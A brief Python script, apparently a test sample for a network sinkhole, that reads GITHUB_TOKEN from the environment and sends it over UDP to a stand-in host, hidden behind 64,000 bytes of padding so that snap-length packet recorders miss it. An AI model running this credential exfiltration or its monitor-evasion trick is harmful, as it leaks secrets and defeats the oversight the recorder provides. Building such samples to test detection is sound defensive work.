#!/usr/bin/python3
"""
Trick: Sends a secret at the end of the largest datagram there is, behind 64,000 bytes of nothing.
Known from: recorders that keep the head of each packet (a snap length) and drop the tail.
First: the sinkhole's record of the datagram
Second: sendto, with the size
"""

import os
import socket

secret = os.environ["GITHUB_TOKEN"].encode()
channel = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
channel.sendto(b"." * 64000 + secret, ("telemetry.vendor.example", 9999))
print("performed")
